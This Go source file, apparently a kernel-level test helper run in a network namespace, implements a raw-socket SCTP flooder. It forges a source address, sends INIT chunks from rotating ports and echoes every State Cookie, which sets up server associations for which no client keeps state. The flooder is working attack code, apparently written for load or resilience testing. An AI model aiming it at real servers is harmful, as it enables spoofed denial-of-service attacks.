//go:build kernel

package netns

import (
	"crypto/rand"
	"encoding/binary"
	"hash/crc32"
	"net"
	"net/netip"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

// A rawFlooder sets up associations without a kernel that would keep state for them: each takes
// three packets, of which it sends two. It sends from another source address, so that its kernel
// does not answer; the link delivers the packets to that address here.
type rawFlooder struct {
	from, server netip.AddrPort
	ports        atomic.Uint32
	out, in      int // sockets
}

// forged is the source address of raw packets: an additional address on the attacker's link.
var forged = netip.MustParseAddr("10.0.0.66")

func newRawFlooder(server netip.AddrPort) (*rawFlooder, error) {
	f := &rawFlooder{from: netip.AddrPortFrom(forged, 0), server: server}
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return nil, err
	}
	if f.out, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW); err != nil {
		return nil, err
	}
	// in network byte order, on a little-endian machine
	const ip = unix.ETH_P_IP>>8 | unix.ETH_P_IP&0xff<<8
	if f.in, err = unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, ip); err != nil {
		return nil, err
	}
	return f, unix.Bind(f.in, &unix.SockaddrLinklayer{Protocol: ip, Ifindex: link.Index})
}

// init sends an INIT from the next port.
func (f *rawFlooder) init() error {
	b := make([]byte, 20)
	rand.Read(b[4:8]) // initiate tag
	b[4] |= 1         // must not be 0
	binary.BigEndian.PutUint32(b[8:], 1<<16)
	b[13], b[15] = 10, 10                           // streams
	b = append(b, 0x80, 0x08, 0, 6, 15, 0xc0, 0, 0) // Supported Extensions: AUTH, FORWARD-TSN
	b = append(b, 0x80, 0x02, 0, 36)                // RANDOM
	b = append(b, make([]byte, 32)...)
	b = append(b, 0x80, 0x04, 0, 8, 0, 3, 0, 1)    // HMAC-ALGO
	b = append(b, 0x80, 0x03, 0, 6, 0, 0xc0, 0, 0) // CHUNKS: DATA, FORWARD-TSN
	b[0] = 1                                       // INIT
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	return f.send(uint16(1024+f.ports.Add(1)%64000), 0, b)
}

// answer answers each INIT ACK with its cookie.
func (f *rawFlooder) answer() error {
	packet := make([]byte, 4096)
	for {
		n, _, err := unix.Recvfrom(f.in, packet, 0)
		if err == unix.EINTR {
			continue
		}
		if err != nil {
			return err
		}
		if n < 20 || netip.AddrFrom4([4]byte(packet[16:20])) != f.from.Addr() {
			continue
		}
		b := packet[int(packet[0]&15)*4 : n]
		if len(b) < 32 || b[12] != 2 {
			continue // not an INIT ACK
		}
		tag := binary.BigEndian.Uint32(b[16:])
		for p := b[32:]; len(p) >= 4; {
			length := int(binary.BigEndian.Uint16(p[2:]))
			if length < 4 || length > len(p) {
				break
			}
			if binary.BigEndian.Uint16(p) == 7 { // State Cookie
				echo := append([]byte{10, 0, p[2], p[3]}, p[4:length]...)
				echo = append(echo, make([]byte, -len(echo)&3)...)
				if err := f.send(binary.BigEndian.Uint16(b[2:]), tag, echo); err != nil {
					return err
				}
			}
			p = p[min((length+3)&^3, len(p)):]
		}
	}
}

// send sends one chunk.
func (f *rawFlooder) send(port uint16, tag uint32, chunk []byte) error {
	b := make([]byte, 32, 32+len(chunk))
	b[0], b[8], b[9] = 4<<4|5, 64, unix.IPPROTO_SCTP // the kernel fills in the rest of the header
	copy(b[12:], f.from.Addr().AsSlice())
	copy(b[16:], f.server.Addr().AsSlice())
	b = append(b, chunk...)
	sctp := b[20:]
	binary.BigEndian.PutUint16(sctp, port)
	binary.BigEndian.PutUint16(sctp[2:], f.server.Port())
	binary.BigEndian.PutUint32(sctp[4:], tag)
	binary.LittleEndian.PutUint32(sctp[8:], crc32.Checksum(sctp, castagnoli))
	return unix.Sendto(f.out, b, 0, &unix.SockaddrInet4{Addr: f.server.Addr().As4()})
}

var castagnoli = crc32.MakeTable(crc32.Castagnoli)
